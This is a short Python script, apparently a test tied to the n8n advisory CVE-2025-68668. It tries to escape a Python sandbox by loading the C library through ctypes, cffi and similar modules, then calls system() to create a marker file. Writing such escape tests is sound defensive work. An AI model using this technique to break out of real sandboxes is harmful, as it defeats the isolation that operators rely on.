# Calls the C library through ctypes, by every name that it has.
# advisory: CVE-2025-68668 (n8n)
print("ATTEMPTED")
for name in "ctypes", "_ctypes", "cffi", "_cffi_backend", "ctypes.util", "_ctypes_test", "dl":
    try:
        module = __import__(name, fromlist=["x"])
    except Exception as error:
        print(name, type(error).__name__)
        continue
    reach(module)
    for library in None, "libc.so.6":
        try:
            libc = module.CDLL(library)
            libc.system(b"touch @TARGET_DIR@/ctypes")
            print("ESCAPED", libc.getpid())
        except Exception as error:
            print(type(error).__name__)
